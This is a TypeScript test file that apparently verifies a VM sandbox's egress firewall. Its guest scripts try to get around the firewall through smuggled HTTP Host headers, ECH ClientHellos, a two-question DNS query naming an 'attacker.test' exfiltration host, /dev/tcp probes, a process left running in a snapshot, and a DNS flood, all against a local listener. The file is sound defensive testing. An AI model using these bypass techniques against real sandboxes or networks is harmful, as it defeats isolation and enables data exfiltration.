/**
 * H-4, M-2, M-4, M-7, L-2, L-5, L-7: a restricted VM reaches what its egress policy names and nothing else, from
 * its first instruction on, and no VM can slow the enforcement of another.
 *
 * One real server and real VMs: A (restricted: allowed.test and *.flood.test), B (restricted: *.quiet.test and the
 * listener's address as a CIDR; the source of a snapshot with a process left running in it) and R (restored from
 * that snapshot under a policy that refuses the listener). allowed.test, other.test and every *.flood.test and
 * *.quiet.test name resolve (through a DNS server the test runs) to one address in a network namespace: a shared
 * front end (fixtures/egress-listeners.mjs) that answers HTTP for any Host, listens on TCP 443, 8443 and 9000 and
 * UDP 443 and 9000, and logs everything that reaches it. Nothing leaves this machine.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { NetworkGuardMonitor, networkGuardStatus } from '../../src/vm/qemu/network-guard.ts';
import { egressTableName, ruleKey } from '../../src/net/egress/ruleset.ts';
import { startDnsServer, type DnsServer } from '../helpers/dns-server.ts';
import { startNetnsWebServer, type NetnsWebServer } from '../helpers/netns-web.ts';
import { call, startTestServer, type TestServer } from '../helpers/test-server.ts';
import { waitUntil } from '../helpers/wait.ts';
import { createDriver, scratchDir, testImage } from '../vm/vm-fixture.ts';

const skip =
  process.getuid?.() !== 0 ? 'needs root (nftables, cgroups, network namespaces)' : spawnSync('nft', ['--version']).status !== 0 ? 'needs nft' : false;
const LISTENERS = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'helpers', 'fixtures', 'egress-listeners.mjs');

/** What reached the shared front end (fixtures/egress-listeners.mjs). */
interface FrontEndEvent {
  kind: 'http' | 'tcp' | 'udp';
  port: number;
  host?: string;
  target?: string;
  bytes?: string;
  text?: string;
  at: number;
}

/** A DNS query for `name` (type A), as a Python bytes expression builder, for the guest scripts. */
const PY_QUERY = `
import socket, struct, time, os, json, sys
def query(name, ident=1, questions=None):
    qs = questions or [name]
    body = b''.join(b''.join(bytes([len(l)]) + l.encode() for l in q.split('.')) + b'\\x00\\x00\\x01\\x00\\x01' for q in qs)
    return struct.pack('!HHHHHH', ident & 0xffff, 0x0100, len(qs), 0, 0, 0) + body
`;

describe('security: egress', { skip }, () => {
  let server: TestServer;
  let apiKey: string;
  let dns: DnsServer;
  let front: NetnsWebServer;
  /** Sessions and VMs (see the top of the file). */
  const A = { sessionId: '', vmId: '' };
  const B = { sessionId: '', vmId: '' };
  let restored: Promise<{ sessionId: string; vmId: string; putWhile: string; putStatus: number }> | null = null;

  /** Runs bash in a session's VM; resolves with stdout. */
  async function guest(sessionId: string, command: string, timeout = 60): Promise<string> {
    const res = await call(server, 'POST', '/execute', { apiKey, json: { session_id: sessionId, language: 'bash', command, timeout } });
    assert.equal(res.status, 200, res.text);
    return String(res.body.stdout) + String(res.body.stderr ?? '');
  }

  async function frontEnd(method: 'GET' | 'DELETE' = 'GET'): Promise<FrontEndEvent[]> {
    const response = await fetch(`http://${front.serverAddress}/__events`, { method, signal: AbortSignal.timeout(5000) });
    return (await response.json()) as FrontEndEvent[];
  }

  async function egressLog(vmId: string): Promise<Array<Record<string, any>>> {
    const res = await call(server, 'GET', `/v1/vms/${vmId}/egress/log?limit=500`, { apiKey });
    assert.equal(res.status, 200, res.text);
    return res.body.items;
  }

  async function setPolicy(vmId: string, policy: Record<string, unknown>): Promise<void> {
    const res = await call(server, 'PUT', `/v1/vms/${vmId}/egress`, { apiKey, json: policy });
    assert.equal(res.status, 200, res.text);
  }

  async function startSession(policy: Record<string, unknown>): Promise<{ sessionId: string; vmId: string }> {
    const created = await call(server, 'POST', '/v1/sessions/session', { apiKey, json: { vcpu_count: 1, egress_policy: policy } });
    assert.equal(created.status, 200, created.text);
    const sessionId = created.body.session_id as string;
    const res = await call(server, 'POST', '/execute', { apiKey, json: { session_id: sessionId, language: 'bash', command: 'true', timeout: 60 } });
    assert.equal(res.status, 200, res.text);
    return { sessionId, vmId: res.body.vm_id };
  }

  before(async () => {
    dns = await startDnsServer();
    front = await startNetnsWebServer({}, { script: LISTENERS });
    for (const name of ['allowed.test', 'other.test', '*.flood.test', '*.quiet.test']) dns.setA(name, [front.serverAddress]);
    server = await startTestServer({ config: { egressDnsServers: [dns.address] } });
    ({ apiKey } = await server.createUserWithKey('egress-security', 'pro'));
    Object.assign(A, await startSession({ allowed_domains: ['allowed.test', '*.flood.test'] }));
    Object.assign(B, await startSession({ allowed_domains: ['*.quiet.test'], allowed_cidrs: [`${front.serverAddress}/32`] }));
  });

  after(async () => {
    await server?.close();
    await Promise.all([front?.stop(), dns?.close()]);
  });

  test('H-4: a restricted VM cannot reach a non-allowed name through UDP/443 or another port of a pinned address', async () => {
    const probe = `
getent hosts allowed.test >/dev/null && echo resolved
timeout 5 bash -c 'echo probe-8443 > /dev/tcp/allowed.test/8443' 2>/dev/null && echo tcp-8443-open || echo tcp-8443-closed
python3 - <<'PY'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
try:
    s.sendto(b'quic-probe', ('allowed.test', 443))
    s.recv(100)
    print('udp-443-echo')
except OSError:
    print('udp-443-none')
PY`;
    await frontEnd('DELETE');
    const out = await guest(A.sessionId, probe);
    assert.match(out, /resolved/);
    assert.match(out, /tcp-8443-closed/, out);
    assert.match(out, /udp-443-none/, out);
    const reached = (await frontEnd()).filter((e) => (e.kind === 'tcp' && e.port === 8443) || (e.kind === 'udp' && e.port === 443));
    assert.deepEqual(reached, [], 'nothing reached the pinned address on TCP 8443 or UDP 443');
    // The firewall's refusals are in the egress log, with why.
    await waitUntil(
      'the refusals of 8443/tcp and 443/udp in the egress log',
      async () => {
        const log = await egressLog(A.vmId);
        return ['tcp', 'udp'].every((protocol) =>
          log.some(
            (e) => e.protocol === protocol && e.port === (protocol === 'tcp' ? 8443 : 443) && e.verdict === 'refused' && /not in allowed_ports/.test(e.reason),
          ),
        );
      },
      10_000,
    );

    // The policy opens them only when it names them.
    await setPolicy(A.vmId, { allowed_domains: ['allowed.test', '*.flood.test'], allowed_ports: ['8443/tcp', '443/udp'] });
    const opened = await guest(A.sessionId, probe);
    assert.match(opened, /tcp-8443-open/, opened);
    assert.match(opened, /udp-443-echo/, opened);
    // allow_https false closes QUIC too, unless the policy names it.
    await setPolicy(A.vmId, { allowed_domains: ['allowed.test', '*.flood.test'], allowed_cidrs: [`${front.serverAddress}/32`], allow_https: false });
    assert.match(await guest(A.sessionId, probe), /udp-443-none/);
    // What the rest of the file runs with: a port rule, so that A's DNS answers do need the firewall (M-7).
    await setPolicy(A.vmId, { allowed_domains: ['allowed.test', '*.flood.test'], allowed_ports: ['8443/tcp'] });
  });

  test('M-2: a second keep-alive request or an absolute-form target cannot reach a non-allowed name', async () => {
    await frontEnd('DELETE');
    const out = await guest(
      A.sessionId,
      `python3 - <<'PY'
import socket
def read_all(sock, seconds=5):
    sock.settimeout(seconds)
    data = b''
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk: break
            data += chunk
    except OSError:
        pass
    return data.decode('latin1').replace('\\r\\n', ' / ')
def one(sock, request):
    sock.sendall(request)
    sock.settimeout(10)
    data = b''
    while b'\\r\\n\\r\\n' not in data:
        chunk = sock.recv(65536)
        if not chunk: return data.decode('latin1')
        data += chunk
    head, _, body = data.partition(b'\\r\\n\\r\\n')
    length = next((int(l.split(b':')[1]) for l in head.split(b'\\r\\n') if l.lower().startswith(b'content-length:')), 0)
    while len(body) < length:
        chunk = sock.recv(65536)
        if not chunk: break
        body += chunk
    return head.split(b'\\r\\n')[0].decode() + ' | ' + body.decode('latin1').strip()
s = socket.create_connection(('allowed.test', 80))
print('first:', one(s, b'GET /one HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'))
try:
    print('second:', one(s, b'GET /two HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'))
except OSError as e:
    print('second: error', e)
s = socket.create_connection(('allowed.test', 80))
print('absolute:', one(s, b'GET http://other.test/three HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'))
s = socket.create_connection(('allowed.test', 80))
s.sendall(b'GET /four HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /five HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')
print('pipelined:', read_all(s))
PY`,
    );
    assert.match(out, /first: HTTP\/1.1 200 OK \| hello from allowed.test/, out);
    assert.match(out, /second: HTTP\/1.1 403 Forbidden \| sandboxd: the egress policy of this VM refuses other.test/, out);
    assert.match(
      out,
      /absolute: HTTP\/1.1 403 Forbidden \| sandboxd: the egress policy of this VM refuses allowed.test \(the absolute-form target names other.test/,
      out,
    );
    assert.match(out, /pipelined: .*hello from allowed.test.*403 Forbidden/s, out);
    assert.doesNotMatch(out, /hello from other.test/);
    const requests = (await frontEnd()).filter((e) => e.kind === 'http');
    assert.deepEqual(
      requests.map((e) => `${e.host} ${e.target}`),
      ['allowed.test /one', 'allowed.test /four'],
      'the front end saw only the requests for allowed.test',
    );
    const refused = (await egressLog(A.vmId)).filter((e) => e.scheme === 'http' && e.verdict === 'refused');
    assert.ok(
      refused.some((e) => e.name === 'other.test' && e.reason === 'name not allowed by the egress policy'),
      JSON.stringify(refused),
    );
    assert.ok(
      refused.some((e) => /absolute-form target names other.test/.test(e.reason)),
      JSON.stringify(refused),
    );
  });

  test('M-2: an encrypted ClientHello (ECH) is refused under a restricted policy', async () => {
    await frontEnd('DELETE');
    const hello = (ech: boolean, marker: string) => `
random = os.urandom(32)
session = bytes([32]) + bytes.fromhex('${marker}' * 32)
name = b'allowed.test'
sni = struct.pack('!HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
extensions = sni + (struct.pack('!HH', 0xfe0d, 40) + os.urandom(40) if ${ech ? 'True' : 'False'} else b'')
body = b'\\x03\\x03' + random + session + b'\\x00\\x02\\x13\\x01' + b'\\x01\\x00' + struct.pack('!H', len(extensions)) + extensions
handshake = b'\\x01' + len(body).to_bytes(3, 'big') + body
s = socket.create_connection(('allowed.test', 443))
s.sendall(b'\\x16\\x03\\x01' + struct.pack('!H', len(handshake)) + handshake)
s.settimeout(1.5)
try:
    print('${ech ? 'ech' : 'plain'}:', 'answered' if s.recv(100) else 'closed')
except OSError as e:
    print('${ech ? 'ech' : 'plain'}:', 'reset' if isinstance(e, ConnectionResetError) else 'timeout')
time.sleep(0.3)
`;
    const out = await guest(A.sessionId, `python3 - <<'PY'\n${PY_QUERY}\n${hello(true, 'ee')}\n${hello(false, 'cc')}\nPY`);
    assert.match(out, /ech: (reset|closed)/, out);
    const connections = (await frontEnd()).filter((e) => e.kind === 'tcp' && e.port === 443);
    const log = await egressLog(A.vmId);
    const seen = `${out}\nfront end: ${JSON.stringify(connections)}\negress log: ${JSON.stringify(log.slice(0, 4))}`;
    assert.equal(connections.filter((e) => e.bytes?.includes('ee'.repeat(16))).length, 0, `the ECH ClientHello never reached the front end: ${seen}`);
    assert.equal(
      connections.filter((e) => e.bytes?.includes('cc'.repeat(16))).length,
      1,
      `the same ClientHello without ECH is spliced through (the control): ${seen}`,
    );
    assert.ok(
      log.some((e) => e.scheme === 'https' && e.verdict === 'refused' && /ECH/.test(e.reason)),
      JSON.stringify(log.slice(0, 5)),
    );
  });

  test('L-2: a DNS message with two questions is refused', async () => {
    const out = await guest(
      A.sessionId,
      `python3 - <<'PY'
${PY_QUERY}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(query(None, 77, ['allowed.test', 'l2-exfil.attacker.test']), ('10.0.2.3', 53))
reply = s.recv(512)
print('rcode', reply[3] & 15, 'qdcount', struct.unpack('!H', reply[4:6])[0])
PY`,
    );
    assert.match(out, /rcode 1 qdcount 0/, `FORMERR: ${out}`);
    assert.equal(dns.queries.includes('l2-exfil.attacker.test'), false, 'the second question never reached the upstream');
  });

  /** R: restored from a snapshot of B taken while a process in it sends to the front end every 30 ms. */
  function restoreR(): Promise<{ sessionId: string; vmId: string; putWhile: string; putStatus: number }> {
    restored ??= (async () => {
      await guest(
        B.sessionId,
        `setsid -f python3 -c "
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
n = 0
while True:
    n += 1
    try: s.sendto(b'm4loop %d' % n, ('${front.serverAddress}', 9000))
    except OSError: pass
    time.sleep(0.03)
" >/dev/null 2>&1 </dev/null; sleep 0.5; pgrep -f 'm4loo[p]' >/dev/null && echo running`,
      );
      // The control: the loop does reach the front end from B (the listener's address is one of B's CIDRs).
      await waitUntil('the loop in B reaches the front end', async () => (await frontEnd()).some((e) => e.kind === 'udp' && e.port === 9000), 10_000);
      const snapshot = await call(server, 'POST', `/v1/vms/${B.vmId}/snapshot`, { apiKey, json: { name: 'm4-loop' } });
      assert.equal(snapshot.status, 200, snapshot.text);
      // From now on only a restored copy of the loop can send.
      assert.match(await guest(B.sessionId, "pkill -f 'm4loo[p]'; sleep 0.3; pgrep -f 'm4loo[p]' || echo stopped"), /stopped/);
      await new Promise((resolve) => setTimeout(resolve, 500));
      await frontEnd('DELETE');
      // Created with a policy, changed while it starts (L-5): the PUT must win.
      const created = await call(server, 'POST', '/v1/vms?wait=false', {
        apiKey,
        json: { snapshot: 'm4-loop', egress_policy: { allowed_domains: ['other.test'] } },
      });
      assert.equal(created.status, 202, created.text);
      const vmId = created.body.vm_id as string;
      const put = await call(server, 'PUT', `/v1/vms/${vmId}/egress`, { apiKey, json: { allowed_domains: ['allowed.test'] } });
      const putWhile = (await call(server, 'GET', `/v1/vms/${vmId}`, { apiKey })).body.status as string;
      await waitUntil('R runs', async () => (await call(server, 'GET', `/v1/vms/${vmId}`, { apiKey })).body.status === 'active', 60_000, 100);
      return { sessionId: created.body.session_id as string, vmId, putWhile, putStatus: put.status };
    })();
    return restored;
  }

  test('M-4: a process left running in a snapshot cannot send before the policy holds', async () => {
    const r = await restoreR();
    // It runs in R (the restored loop) and tries to send: the firewall refuses it, the front end sees nothing.
    assert.match(await guest(r.sessionId, "sleep 1; pgrep -f 'm4loo[p]' >/dev/null && echo running"), /running/);
    assert.deepEqual(
      (await frontEnd()).filter((e) => e.kind === 'udp'),
      [],
      'nothing of the restored loop reached the front end',
    );
    await waitUntil(
      "R's refused sends in its egress log",
      async () => (await egressLog(r.vmId)).some((e) => e.protocol === 'udp' && e.port === 9000 && e.verdict === 'refused'),
      10_000,
    );

    // Pause and resume: the resumed hypervisor is in a new cgroup, with its rules before it runs.
    assert.equal((await call(server, 'POST', `/v1/vms/${r.vmId}/pause`, { apiKey })).status, 200);
    const resumed = await call(server, 'POST', `/v1/vms/${r.vmId}/resume`, { apiKey });
    assert.equal(resumed.status, 200, resumed.text);
    assert.match(await guest(r.sessionId, "sleep 1; pgrep -f 'm4loo[p]' >/dev/null && echo running"), /running/);
    assert.deepEqual(
      (await frontEnd()).filter((e) => e.kind === 'udp'),
      [],
      'nothing of the resumed loop reached the front end',
    );
  });

  test('L-5: a policy PUT while the VM is starting is kept', async () => {
    const r = await restoreR();
    assert.equal(r.putStatus, 200);
    assert.equal(r.putWhile, 'starting', 'the PUT was made while the VM started');
    const policy = await call(server, 'GET', `/v1/vms/${r.vmId}/egress`, { apiKey });
    assert.deepEqual([policy.body.allowed_domains, policy.body.source, policy.body.enforced], [['allowed.test'], 'vm', true], policy.text);
    const out = await guest(
      r.sessionId,
      'getent hosts allowed.test >/dev/null && echo allowed-resolves; getent hosts other.test >/dev/null && echo other-resolves || echo other-refused',
    );
    assert.match(out, /allowed-resolves/);
    assert.match(out, /other-refused/);
  });

  test("M-7: a DNS flood from one VM does not delay another VM's lookups beyond 500 ms", async (t) => {
    const lookups = (delaySeconds: number) => `python3 - <<'PY'
${PY_QUERY}
tag = os.urandom(3).hex()
time.sleep(${delaySeconds})
times = []
for i in range(15):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    started = time.perf_counter()
    s.sendto(query('q%d-%s.quiet.test' % (i, tag), i), ('10.0.2.3', 53))
    try:
        s.recv(512)
        times.append(round((time.perf_counter() - started) * 1000, 1))
    except OSError:
        times.append(5000)
    time.sleep(0.15)
print(json.dumps(times))
PY`;
    const parse = (out: string) => JSON.parse(out.trim().split('\n').at(-1)!) as number[];
    const baseline = parse(await guest(B.sessionId, lookups(0)));
    const floodNames = () => dns.queries.filter((name) => name.endsWith('.flood.test')).length;
    const before = floodNames();
    const flood = guest(
      A.sessionId,
      `python3 - <<'PY'
${PY_QUERY}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
tag = os.urandom(3).hex()
end = time.time() + 7
n = answered = 0
while time.time() < end:
    n += 1
    try: s.sendto(query('f%d-%s.flood.test' % (n, tag), n), ('10.0.2.3', 53))
    except BlockingIOError: pass
    try:
        while True:
            s.recv(512); answered += 1
    except BlockingIOError: pass
    time.sleep(0.002)
print('flood', n, answered)
PY`,
    );
    const during = parse(await guest(B.sessionId, lookups(1.5)));
    const flooded = await flood;
    const sent = floodNames() - before;
    const sorted = [...during].sort((a, b) => a - b);
    const p50 = sorted[Math.floor(sorted.length / 2)]!;
    const max = sorted.at(-1)!;
    t.diagnostic(`baseline lookups (ms): ${baseline.join(' ')}`);
    t.diagnostic(`lookups during the flood (ms): ${during.join(' ')}; p50 ${p50}, max ${max}`);
    t.diagnostic(`${flooded.trim()}; unique names the upstream was asked: ${sent}`);
    assert.ok(sent >= 1000, `the flood asked the upstream ${sent} unique names`);
    assert.ok(max < 500, `another VM's lookups took up to ${max} ms during the flood`);
  });

  test('L-7: pins never hold forbidden addresses, and the network guard fails closed', async () => {
    // A DNS answer with loopback, private and host addresses besides a public one.
    dns.setA('private.test', ['127.0.0.1', '10.1.2.3', front.hostAddress, front.serverAddress]);
    const pinned = async () => {
      const table = egressTableName(`${server.config.cluster.nodeId}:${server.config.server.dataDir}`);
      return spawnSync('nft', ['list', 'set', 'inet', table, `p_${ruleKey(A.vmId)}`], { encoding: 'utf8' }).stdout;
    };
    for (const ports of [[], ['22/tcp']]) {
      await setPolicy(A.vmId, { allowed_domains: ['private.test'], ...(ports.length ? { allowed_ports: ports } : {}) });
      const out = await guest(A.sessionId, 'getent ahostsv4 private.test | head -1; curl -sS -m 10 -o /dev/null -w "%{http_code}\\n" http://private.test/');
      const set = await pinned();
      for (const address of ['127.0.0.1', '10.1.2.3', front.hostAddress])
        assert.ok(!set.includes(address), `${address} is not pinned (${ports.join(' ') || 'no ports'}): ${set}`);
      if (ports.length) assert.ok(set.includes(front.serverAddress), `the public address is pinned for the port rule: ${set}`);
      assert.match(out, /200/, `the proxy goes to the public address: ${out}`);
    }

    // A VM with user networking does not start without an active guard.
    const unguarded = createDriver({ accelerator: 'tcg', networkGuard: { nftBinary: '/bin/false', recheckIntervalMs: 3_600_000 } });
    const scratch = await scratchDir('sbx-l7-');
    try {
      const report = await unguarded.driver.prepare(await testImage());
      assert.equal(report.networkGuard.active, false);
      await assert.rejects(
        unguarded.driver.boot({
          vmId: 'l7-unguarded',
          runDir: path.join(scratch, 'run'),
          image: await testImage(),
          vcpuCount: 1,
          memoryMb: 256,
          network: 'user',
          timeoutMs: 90_000,
        }),
        (error: Error & { code?: string }) => error.code === 'VM_NETWORK_UNGUARDED',
      );
    } finally {
      await unguarded.driver.killAll();
      fs.rmSync(scratch, { recursive: true, force: true });
    }

    // A firewall reload that removes the guard is noticed, and the guard comes back.
    const vmUser = spawnSync('id', ['-u', 'sandboxd-vm'], { encoding: 'utf8' }).stdout.trim();
    const table = `sandboxd_guard_l7_${process.pid}`;
    const changes: boolean[] = [];
    const monitor = new NetworkGuardMonitor({ uid: Number(vmUser), table }, { active: true, detail: '' }, (status) => changes.push(status.active));
    try {
      assert.equal((await monitor.check()).active, true);
      spawnSync('nft', ['delete', 'table', 'inet', table]);
      assert.equal((await networkGuardStatus(Number(vmUser), 'nft', table)).active, false);
      assert.equal((await monitor.check()).active, true, 're-installed');
      assert.equal((await networkGuardStatus(Number(vmUser), 'nft', table)).active, true);
    } finally {
      spawnSync('nft', ['delete', 'table', 'inet', table]);
    }
    // The server's own guard, flushed under it, comes back by itself.
    spawnSync('nft', ['delete', 'table', 'inet', 'sandboxd_guard']);
    await waitUntil('the server re-installs its guard', async () => (await networkGuardStatus(Number(vmUser))).active, 15_000, 250);
  });
});
